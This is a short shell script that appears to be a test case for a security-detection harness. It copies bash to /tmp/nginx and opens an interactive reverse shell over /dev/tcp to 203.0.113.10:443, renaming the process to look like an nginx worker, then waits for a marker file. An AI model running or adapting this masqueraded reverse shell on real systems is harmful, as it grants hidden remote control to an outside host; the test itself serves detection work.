#!/bin/sh
. /opt/case/case.sh

cp /bin/bash /tmp/nginx
/tmp/nginx -c 'exec -a "nginx: worker process" /tmp/nginx -i >& /dev/tcp/203.0.113.10/443 0>&1' &
wait_for /tmp/reached
took_place
